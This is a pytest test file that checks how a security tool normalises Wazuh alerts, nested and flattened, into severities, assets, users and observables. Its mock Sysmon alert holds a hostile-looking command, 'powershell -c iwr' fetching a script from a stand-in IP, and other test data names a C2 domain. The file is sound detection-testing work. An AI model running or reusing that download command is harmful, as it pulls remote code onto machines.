"""Alerts of Wazuh 4, nested and as Graylog flattens them."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from socdomain.sources.builtin import BUILTIN_MAPPINGS
from socdomain.sources.mapping import Normaliser
from socdomain.sources.normalised_event import AssetKind, AssetMention, CustomerClaim, NormalisedEvent
from socdomain.sources.severity import Severity

NORMALISER = Normaliser(BUILTIN_MAPPINGS["wazuh"])
NAMES, HINTS = CustomerClaim.NAMES, CustomerClaim.HINTS

SSHD = {
    "timestamp": "2026-08-20T08:00:56.123+0000",
    "rule": {
        "level": 10,
        "description": "sshd: brute force trying to get access to the system. Non existent user.",
        "id": "5712",
        "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
        "frequency": 8,
        "firedtimes": 2,
        "mail": False,
        "groups": ["syslog", "sshd", "authentication_failures"],
    },
    "agent": {"id": "003", "name": "web-01", "ip": "10.0.0.3", "labels": {"customer": "acme"}},
    "manager": {"name": "wazuh-manager"},
    "id": "1787212856.118273",
    "cluster": {"name": "wazuh", "node": "worker-01"},
    "previous_output": "Aug 20 08:00:51 web-01 sshd[2230]: Invalid user admin from 203.0.113.8 port 50120",
    "full_log": "Aug 20 08:00:56 web-01 sshd[2231]: Failed password for invalid user admin from 203.0.113.9 port 50122",
    "predecoder": {"program_name": "sshd", "timestamp": "Aug 20 08:00:56", "hostname": "web-01"},
    "decoder": {"parent": "sshd", "name": "sshd"},
    "data": {"srcip": "203.0.113.9", "srcport": "50122", "srcuser": "admin"},
    "location": "/var/log/auth.log",
    "GeoLocation": {"country_name": "Nowhere", "location": {"lat": 1.0, "lon": 2.0}},
}

SYSMON = {
    "timestamp": "2026-08-20T08:01:00.000+0000",
    "rule": {"level": 12, "description": "Sysmon - Suspicious PowerShell", "id": 92027, "mitre": {"id": ["T1059.001"]}},
    "agent": {"id": "017", "name": "WS01", "ip": "10.0.1.17"},
    "id": "1787212860.118274",
    "data": {
        "win": {
            "system": {
                "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
                "eventID": "1",
                "channel": "Microsoft-Windows-Sysmon/Operational",
                "computer": "WS01.corp.example",
                "message": '"Process Create: http://192.0.2.77/not-again"',
            },
            "eventdata": {
                "image": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
                "originalFileName": "PowerShell.EXE",
                "commandLine": "powershell -c iwr http://198.51.100.7/a.ps1",
                "hashes": "MD5=0CC175B9C0F1B6A831C399E269772661,"
                "SHA256=CA978112CA1BBDCAFAC231B39A23DC4DA786EFF8147C4E72B9807785AFEE48BB,IMPHASH="
                "0C11E0F6CE3D6F0E60E4E8E1E5F1A9E3",
                "parentImage": "C:\\\\Windows\\\\explorer.exe",
                "user": "CORP\\\\alice",
                "processGuid": "{691ff406-e58c-661f-b401-000000002300}",
            },
        }
    },
    "location": "EventChannel",
}


def flattened(document: dict[str, Any], joint: str, prefix: str = "") -> dict[str, Any]:
    """What a JSON extractor makes of a document: one object, lists joined to text."""
    flat: dict[str, Any] = {}
    for key, value in document.items():
        if isinstance(value, dict):
            flat.update(flattened(value, joint, f"{prefix}{key}{joint}"))
        else:
            flat[f"{prefix}{key}"] = ", ".join(map(str, value)) if isinstance(value, list) else value
    return flat


def values(event: NormalisedEvent) -> set[str]:
    return {f"{observable.type.value} {observable.value}" for observable in event.observables}


def check_sshd(event: NormalisedEvent) -> None:
    assert event.title == "sshd: brute force trying to get access to the system. Non existent user."
    assert event.description == SSHD["full_log"]
    assert (event.severity, event.severity_known, event.level) == (Severity.MEDIUM, True, 10)
    assert event.occurred_at == datetime(2026, 8, 20, 8, 0, 56, 123000, tzinfo=UTC)
    assert event.rule_id == "5712"
    assert event.techniques == ("T1110",)
    assert [(mark.code, mark.claim) for mark in event.customer_marks] == [("acme", NAMES), ("worker-01", HINTS)]
    assert event.document_id == "1787212856.118273"
    assert event.asset == AssetMention(AssetKind.HOST, "web-01", "003")
    assert event.user == "admin"
    assert values(event) == {"ipv4 203.0.113.9", "ipv4 203.0.113.8", "user_account admin"}
    assert event.context["Agent IP"] == "10.0.0.3"
    assert event.context["Source country"] == "Nowhere"


def test_an_alert_of_sshd_is_read_as_an_analyst_would() -> None:
    check_sshd(NORMALISER.normalise(SSHD))


@pytest.mark.parametrize("joint", [".", "_"])
def test_a_flattened_alert_is_read_as_the_nested_one(joint: str) -> None:
    check_sshd(NORMALISER.normalise(flattened(SSHD, joint)))


def check_sysmon(event: NormalisedEvent) -> None:
    assert (event.severity, event.rule_id, event.techniques) == (Severity.HIGH, "92027", ("T1059.001",))
    assert event.asset == AssetMention(AssetKind.HOST, "WS01", "017")
    assert values(event) == {
        "filename powershell.exe",
        "filename PowerShell.EXE",
        "filename explorer.exe",
        "url http://198.51.100.7/a.ps1",
        "ipv4 198.51.100.7",
        "md5 0cc175b9c0f1b6a831c399e269772661",
        "sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
        "user_account corp\\alice",
    }
    assert event.context["Command line"] == "powershell -c iwr http://198.51.100.7/a.ps1"
    assert event.context["Windows event"] == "1"


def test_an_alert_of_sysmon_is_read_as_an_analyst_would() -> None:
    check_sysmon(NORMALISER.normalise(SYSMON))


@pytest.mark.parametrize("joint", [".", "_"])
def test_a_flattened_alert_of_sysmon_is_read_as_the_nested_one(joint: str) -> None:
    check_sysmon(NORMALISER.normalise(flattened(SYSMON, joint)))


def test_a_mixed_document_is_read_too() -> None:
    """Pipelines flatten a part and leave the rest."""
    document = {
        "rule_description": "Mixed",
        "rule": {"level": 7},
        "agent.id": "004",
        "agent": {"name": "ws02"},
        "data": {"win_eventdata_image": "C:\\x\\y.exe", "win.eventdata": {"user": "bob"}},
    }
    event = NORMALISER.normalise(document)
    assert (event.title, event.severity) == ("Mixed", Severity.MEDIUM)
    assert event.asset == AssetMention(AssetKind.HOST, "ws02", "004")
    assert values(event) == {"filename y.exe", "user_account bob"}


def test_graylogs_time_of_receipt_gives_way_to_the_alerts_own() -> None:
    event = NORMALISER.normalise({"timestamp": "2026-08-20 08:00:03.500", "timestamp_utc": "2026-08-20T08:00:00.500Z"})
    assert event.occurred_at == datetime(2026, 8, 20, 8, 0, 0, 500000, tzinfo=UTC)


@pytest.mark.parametrize(
    ("level", "severity"),
    [
        (0, "Low"),
        (6, "Low"),
        (7, "Medium"),
        (11, "Medium"),
        (12, "High"),
        (14, "High"),
        (15, "Critical"),
        (16, "Critical"),
    ],
)
def test_levels_become_severities_at_their_boundaries(level: int, severity: str) -> None:
    event = NORMALISER.normalise({"rule": {"level": level}})
    assert (event.severity.word, event.severity_known, event.level) == (severity, True, level)


def test_an_alert_without_a_level_is_medium_and_marked() -> None:
    event = NORMALISER.normalise({"rule": {"id": "1"}})
    assert (event.severity, event.severity_known, event.level) == (Severity.MEDIUM, False, None)
    assert event.title == "Wazuh alert (rule 1)"


@pytest.mark.parametrize(
    ("extra", "asset"),
    [
        ({}, None),
        ({"predecoder": {"hostname": "fw-01"}}, AssetMention(AssetKind.HOST, "fw-01")),
        ({"data": {"hostname": "fw-02"}}, AssetMention(AssetKind.HOST, "fw-02")),
        ({"data": {"win": {"system": {"computer": "DC01.corp"}}}}, AssetMention(AssetKind.HOST, "DC01.corp")),
        ({"data": {"srcip": "10.0.0.1", "dstip": "10.0.0.2"}}, None),
        (
            {"data": {"aws": {"resource": {"instanceDetails": {"instanceId": "i-0c1"}}}}},
            AssetMention(AssetKind.HOST, "i-0c1"),
        ),
        (
            {"data": {"office365": {"UserId": "a@corp.example", "MailboxOwnerUPN": "b@corp.example"}}},
            AssetMention(AssetKind.MAILBOX, "b@corp.example"),
        ),
        ({"data": {"office365": {"UserId": "a@corp.example"}}}, AssetMention(AssetKind.USER, "a@corp.example")),
    ],
)
def test_the_manager_is_not_the_victim(extra: dict[str, Any], asset: AssetMention | None) -> None:
    event = NORMALISER.normalise({"agent": {"id": "000", "name": "wazuh-manager"}, **extra})
    assert event.asset == asset


def test_the_manager_is_not_the_victim_in_a_flattened_alert_either() -> None:
    event = NORMALISER.normalise({"agent_id": "000", "agent_name": "wazuh-manager", "predecoder_hostname": "fw-01"})
    assert event.asset == AssetMention(AssetKind.HOST, "fw-01")


@pytest.mark.parametrize("joint", [None, ".", "_"])
def test_customers_are_named_in_the_agreed_order(joint: str | None) -> None:
    document: dict[str, Any] = {
        "cluster": {"node": "worker-01"},
        "customer_code": "third",
        "data": {"office365": {"OrganizationId": "second"}},
        "agent": {"labels": {"customer": "first"}},
    }
    event = NORMALISER.normalise(document if joint is None else flattened(document, joint))
    assert [(mark.code, mark.claim, mark.path) for mark in event.customer_marks] == [
        ("first", NAMES, "agent.labels.customer"),
        ("second", NAMES, "data.office365.OrganizationId"),
        ("third", NAMES, "customer_code"),
        ("worker-01", HINTS, "cluster.node"),
    ]


def test_alerts_of_suricata_that_wazuh_passes_on_differ_by_their_own_rule() -> None:
    document = {"rule": {"id": "86601"}, "data": {"alert": {"signature_id": "2024897"}}}
    assert NORMALISER.normalise(document).fingerprint_fields == (("data.alert.signature_id", "2024897"),)
    assert NORMALISER.normalise({"rule": {"id": "5710"}}).fingerprint_fields == ()


@pytest.mark.parametrize(
    ("data", "user"),
    [
        ({"srcuser": "alice", "dstuser": "root"}, "alice"),
        ({"dstuser": "root"}, "root"),
        ({"win": {"eventdata": {"targetUserName": "bob", "subjectUserName": "DC01$"}}}, "bob"),
        ({"win": {"eventdata": {"targetUserName": "-", "subjectUserName": "carol"}}}, "carol"),
        ({"aws": {"userIdentity": {"arn": "arn:aws:iam::1:user/dave", "userName": "dave"}}}, "dave"),
        ({"office365": {"UserId": "erin@corp.example"}}, "erin@corp.example"),
        ({}, None),
    ],
)
def test_the_user_is_who_acted_or_was_acted_upon(data: dict[str, Any], user: str | None) -> None:
    assert NORMALISER.normalise({"data": data}).user == user


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (
            {
                "syscheck": {
                    "path": "/etc/passwd",
                    "sha256_after": "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
                }
            },
            {"filename passwd", "sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"},
        ),
        (
            {"syscheck": {"path": "HKEY_LOCAL_MACHINE\\Software\\Run"}},
            {"registry_key HKEY_LOCAL_MACHINE\\software\\run"},
        ),
        (
            {"data": {"vulnerability": {"cve": "CVE-2026-1234", "references": ["https://nvd.example/CVE-2026-1234"]}}},
            {"cve CVE-2026-1234"},
        ),
        (
            {
                "data": {
                    "virustotal": {
                        "source": {"md5": "0cc175b9c0f1b6a831c399e269772661"},
                        "permalink": "https://vt.example/x",
                    }
                }
            },
            {"md5 0cc175b9c0f1b6a831c399e269772661"},
        ),
        (
            {"data": {"aws": {"sourceIPAddress": "203.0.113.9", "userAgent": "https://sdk.example/1.0"}}},
            {"ipv4 203.0.113.9"},
        ),
        (
            {"data": {"custom": {"list": [{"peer": "203.0.113.9"}], "id": "0cc175b9c0f1b6a831c399e269772661"}}},
            {"ipv4 203.0.113.9"},
        ),
        ({"data": {"docker": {"id": "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"}}}, set()),
        ({"data": {"win": {"eventdata": {"queryName": "c2.evil.example"}}}}, {"domain c2.evil.example"}),
        ({"data": {"url": "/index.php?x=1", "srcip": "203.0.113.9:5000"}}, {"ipv4 203.0.113.9"}),
        ({"agent": {"ip": "203.0.113.5"}, "GeoLocation": {"ip": "203.0.113.6"}}, set()),
        ({"full_log": "blocked hxxp://evil[.]example/x"}, {"url http://evil.example/x", "domain evil.example"}),
    ],
)
def test_observables_are_what_belongs_to_the_attack(document: dict[str, Any], expected: set[str]) -> None:
    assert values(NORMALISER.normalise(document)) == expected
